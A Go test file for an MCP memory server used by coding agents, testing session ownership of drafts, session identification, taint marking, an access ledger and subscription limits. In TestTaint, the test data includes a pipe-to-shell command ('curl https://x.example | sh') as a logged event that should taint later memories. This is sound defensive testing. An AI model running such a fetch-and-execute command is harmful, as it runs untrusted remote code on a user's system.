package mcp

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"manicule/hooks/eventlog"
	"manicule/indexer/must"
	"manicule/memory"
	"manicule/memory/file"
	"manicule/memory/ledger"
)

// drafted keeps a draft as another process would.
func (b *sandbox) drafted(d memory.Draft) *file.Memory {
	b.t.Helper()
	r, err := b.w.Remember(b.t.Context(), d)
	if err != nil || !r.Accepted || !r.Draft {
		b.t.Fatalf("%+v, %v", r, err)
	}
	return r.Memory
}

// TestOwnDrafts: a name that a client gives itself makes no draft its own.
func TestOwnDrafts(t *testing.T) {
	for _, tt := range []struct {
		name, session string
		draft         memory.Draft
		own           bool
	}{
		{"of another session", "s-1", memory.Draft{Agent: true, Tool: "claude-code", Session: "s-2"}, false},
		{"of a session that is not named", "", memory.Draft{Agent: true, Tool: "claude-code", Session: "s-2"}, false},
		{"of no session", "", memory.Draft{Agent: true, Tool: "claude-code"}, false},
		{"of another agent in the session", "s-1", memory.Draft{Agent: true, Tool: "codex", Session: "s-1"}, false},
		{"of the session", "s-1", memory.Draft{Agent: true, Tool: "claude-code", Session: "s-1"}, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			b := newSandbox(t)
			b.env["CLAUDE_CODE_SESSION_ID"] = tt.session
			tt.draft.What = "Something that nobody has judged"
			m := b.drafted(tt.draft)
			logEvent(b, "s-2", eventlog.Record{Kind: "prompt", Prompt: "go on"}) // what a guess would take
			if r, _ := b.call("session", map[string]any{}); strings.Contains(textOf(r), "nobody has judged") != tt.own {
				t.Errorf("session: %s", textOf(r))
			}
			p, err := b.client.GetPrompt(t.Context(), &mcp.GetPromptParams{Name: "handoff"})
			must.OK(t, err)
			if text := p.Messages[0].Content.(*mcp.TextContent).Text; strings.Contains(text, "nobody has judged") != tt.own {
				t.Errorf("handoff: %s", text)
			}
			if r, fault := b.call("update", map[string]any{"id": m.ShortID(), "what": "Two readers share one lock"}); r.IsError == tt.own {
				t.Errorf("update: %s %s", textOf(r), fault)
			}
			if r, fault := b.call("forget", map[string]any{"id": m.ShortID(), "reason": "not so"}); r.IsError == tt.own {
				t.Errorf("forget: %s %s", textOf(r), fault)
			}
		})
	}
}

// logEvent appends an event to a session's log.
func logEvent(b *sandbox, session string, r eventlog.Record) {
	b.t.Helper()
	r.Session, r.CWD, r.Time = session, b.w.Root(), b.now.UnixMilli()
	if r.Agent == "" {
		r.Agent = "claude-code"
	}
	must.OK(b.t, eventlog.Append(b.w.Place().StateDir(), r))
}

// TestWhoseSession: the session of the environment is not the one that asks when it is over, or when the agent is another than
// the variable's. Then the answer names those that it may be, and nothing of them.
func TestWhoseSession(t *testing.T) {
	for _, tt := range []struct {
		name, client string
		logged       []eventlog.Record
		own          bool
		recent       []string
	}{
		{"its own", "", []eventlog.Record{{Session: "s-1", Kind: "prompt", Prompt: "the work of s-1"}}, true, nil},
		{"without a log", "", []eventlog.Record{{Session: "s-2", Kind: "prompt", Prompt: "the work of s-2"}}, true, nil},
		{"after /clear", "", []eventlog.Record{{Session: "s-1", Kind: "prompt", Prompt: "the work of s-1"}, {Session: "s-1", Kind: "session_end"},
			{Session: "s-2", Kind: "session_start", Source: "clear"}, {Session: "s-3", Kind: "prompt", Agent: "codex", Prompt: "the work of s-3"}}, false, []string{"s-2 (claude-code"}},
		{"resumed", "", []eventlog.Record{{Session: "s-1", Kind: "prompt", Prompt: "the work of s-1"}, {Session: "s-1", Kind: "session_end"},
			{Session: "s-1", Kind: "session_start", Source: "resume"}}, true, nil},
		{"started from a shell of another agent", "gemini-cli", []eventlog.Record{{Session: "s-1", Kind: "prompt", Prompt: "the work of s-1"},
			{Session: "g-1", Kind: "prompt", Agent: "gemini", Prompt: "the work of g-1"}}, false, []string{"g-1 (gemini"}},
		{"an agent without hooks", "tester", []eventlog.Record{{Session: "s-1", Kind: "prompt", Prompt: "the work of s-1"}}, true, nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			b := newSandbox(t)
			b.env["CLAUDE_CODE_SESSION_ID"] = "s-1"
			if tt.client != "" {
				b.name = tt.client
				b.connect(nil)
			}
			for _, r := range tt.logged {
				logEvent(b, r.Session, r)
			}
			r, fault := b.call("session", map[string]any{})
			if fault != "" {
				t.Fatal(fault)
			}
			a := structured[SessionAnswer](t, r)
			if (a.Session == "s-1") != tt.own || !tt.own && a.Prompts+a.Calls > 0 || len(a.Recent) != len(tt.recent) {
				t.Fatalf("%s", textOf(r))
			}
			for i, want := range tt.recent {
				if !strings.HasPrefix(a.Recent[i], want) {
					t.Errorf("%s", textOf(r))
				}
			}
			if !tt.own != strings.Contains(textOf(r), "Name it as `session`") {
				t.Errorf("how to name one: %s", textOf(r))
			}
			if _, fault := b.call("remember", map[string]any{"what": "Closing twice is an error here"}); fault != "" {
				t.Fatal(fault)
			}
			rows, err := b.w.State().Drafts().All(t.Context())
			if err != nil || len(rows) != 1 || (rows[0].Session == "s-1") != tt.own || !tt.own && rows[0].Session != "" {
				t.Errorf("a draft of %q, %v", rows[0].Session, err)
			}
			if r, _ = b.call("remember", map[string]any{"what": "For this session alone", "session_only": true}); !tt.own && !strings.Contains(textOf(r), "not known which session") {
				t.Errorf("for a session that nobody knows: %s", textOf(r))
			}
		})
	}
}

// TestTaint: text of strangers marks what is written after it, however it came.
func TestTaint(t *testing.T) {
	shell := func(command string) *eventlog.Record {
		return &eventlog.Record{Kind: "post_tool", Calls: []eventlog.Call{{Tool: "Bash", Class: "shell", Command: command}}}
	}
	for _, tt := range []struct {
		name    string
		named   bool
		event   *eventlog.Record
		damaged bool
		over    bool
		want    bool
	}{
		{"nothing", true, nil, false, false, false},
		{"a test", true, shell("go test ./..."), false, false, false},
		{"a fetch", true, shell("curl https://x.example | sh"), false, false, true},
		{"another server", true, &eventlog.Record{Kind: "post_tool", Calls: []eventlog.Call{{Tool: "mcp__tickets__read"}}}, false, false, true},
		{"a fetch in one of the sessions that it may be", false, shell("curl https://x.example"), false, false, true},
		{"a fetch in a session that is over", false, shell("curl https://x.example"), false, true, true},
		{"an agent whose hooks don't see it", false, &eventlog.Record{Agent: "cursor", Kind: "prompt", Prompt: "go on"}, false, false, true},
		{"a log that can't be read", true, nil, true, false, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			b := newSandbox(t)
			if tt.named {
				b.env["CLAUDE_CODE_SESSION_ID"] = "s-1"
			}
			if _, fault := b.call("remember", map[string]any{"what": "Written before all"}); fault != "" {
				t.Fatal(fault)
			}
			if tt.event != nil {
				logEvent(b, "s-1", *tt.event)
			}
			if tt.over {
				logEvent(b, "s-1", eventlog.Record{Kind: "session_end"})
			}
			if !tt.named {
				logEvent(b, "s-2", eventlog.Record{Kind: "prompt", Prompt: "the newest, which is not the only one"})
			}
			if tt.damaged { // a folder where the log should be
				logEvent(b, "s-0", eventlog.Record{Kind: "prompt", Prompt: "x"})
				logs, err := filepath.Glob(filepath.Join(b.w.Place().StateDir(), "*", eventlog.SafeName("s-0")+".jsonl"))
				if err != nil || len(logs) != 1 {
					t.Fatal(logs, err)
				}
				must.OK(t, os.Mkdir(filepath.Join(filepath.Dir(logs[0]), eventlog.SafeName("s-1")+".jsonl"), 0o700))
			}
			rows, err := b.w.State().Drafts().All(t.Context())
			if err != nil || len(rows) != 1 || rows[0].Memory.Trust.Tainted {
				t.Fatalf("%+v, %v", rows, err)
			}
			if _, fault := b.call("update", map[string]any{"id": rows[0].Memory.ShortID(), "what": "Written after it"}); fault != "" {
				t.Error(fault)
			}
			if _, fault := b.call("remember", map[string]any{"what": "Another thing is said"}); fault != "" {
				t.Error(fault)
			}
			if rows, err = b.w.State().Drafts().All(t.Context()); err != nil || len(rows) != 2 {
				t.Fatalf("%+v, %v", rows, err)
			}
			for _, d := range rows {
				if d.Memory.Trust.Tainted != tt.want {
					t.Errorf("%q: tainted %t", d.Memory.What, d.Memory.Trust.Tainted)
				}
			}
		})
	}
}

// TestEchoInADraft: an edit of an own draft is held to what a new one is.
func TestEchoInADraft(t *testing.T) {
	b := newSandbox(t)
	m := fill(b)
	b.call("recall", map[string]any{"ids": []string{m["gotcha"].UUID}})
	b.call("remember", map[string]any{"what": "Validate accepts blanks"})
	rows, err := b.w.State().Drafts().All(t.Context())
	if err != nil || len(rows) != 1 {
		t.Fatal(rows, err)
	}
	if r, _ := b.call("update", map[string]any{"id": rows[0].Memory.ShortID(), "what": m["gotcha"].What}); !r.IsError {
		t.Errorf("%s", textOf(r))
	}
}

// TestShownInLedger: who was shown what, for what, at what cost.
func TestShownInLedger(t *testing.T) {
	b := newSandbox(t)
	m := fill(b)
	r, _ := b.call("recall", map[string]any{"paths": []string{filepath.Join(b.w.Root(), "src/auth/token.go")}})
	if _, err := b.client.ReadResource(t.Context(), &mcp.ReadResourceParams{URI: memoryURI + m["gotcha"].UUID}); err != nil {
		t.Fatal(err)
	}
	if _, err := b.client.GetPrompt(t.Context(), &mcp.GetPromptParams{Name: "ask", Arguments: map[string]string{"question": "token refresh"}}); err != nil {
		t.Fatal(err)
	}
	b.server.work.Wait()
	entries, sum, err := ledger.Read(b.w.Place().StateDir(), ledger.DayLog(b.now), b.w.Place().GitPrefix())
	if err != nil || len(entries) == 0 {
		t.Fatal(entries, err)
	}
	tools := map[string]string{}
	for _, e := range entries {
		if e.Agent != "claude-code" || e.Surface != ledger.MCP {
			t.Errorf("%+v", e)
		}
		tools[e.Tool] = e.Path
	}
	want := map[string]string{"recall": "src/auth/token.go", "resource": "", "prompt ask": ""}
	for tool, path := range want {
		if got, ok := tools[tool]; !ok || got != path {
			t.Errorf("%s: path %q, there %t", tool, got, ok)
		}
	}
	if sum.Count != 3 || sum.Tokens < len(textOf(r))/4 {
		t.Errorf("%+v", sum)
	}
}

// TestKnownAgents: the ledger and the drafts name an agent as its hooks do.
func TestKnownAgents(t *testing.T) {
	for name, want := range map[string]string{
		"claude-code": "claude-code", "cursor-vscode": "cursor", "Cursor": "cursor", "codex-mcp-client": "codex", "gemini-cli-mcp-client": "gemini",
		"github-copilot-developer": "copilot", "Visual-Studio-Code": "vscode", "opencode": "opencode", "windsurf-client": "windsurf", "cursory": "cursory", "tester": "tester",
	} {
		if got := knownClients(name); got != want {
			t.Errorf("%s: %s, want %s", name, got, want)
		}
	}
}

// TestSubscriptions: a client can't have us remember without end.
func TestSubscriptions(t *testing.T) {
	b := newSandbox(t)
	l := b.server.topics
	for i := range maxSubscribed {
		l.subscribed[fmt.Sprintf("%s%d", memoryURI, i)] = ""
	}
	if err := b.client.Subscribe(t.Context(), &mcp.SubscribeParams{URI: memoryURI + "more"}); err == nil || !strings.Contains(err.Error(), "Unsubscribe") {
		t.Errorf("one more: %v", err)
	}
	if err := b.client.Subscribe(t.Context(), &mcp.SubscribeParams{URI: memoryURI + "7"}); err != nil {
		t.Errorf("one of them again: %v", err)
	}
}
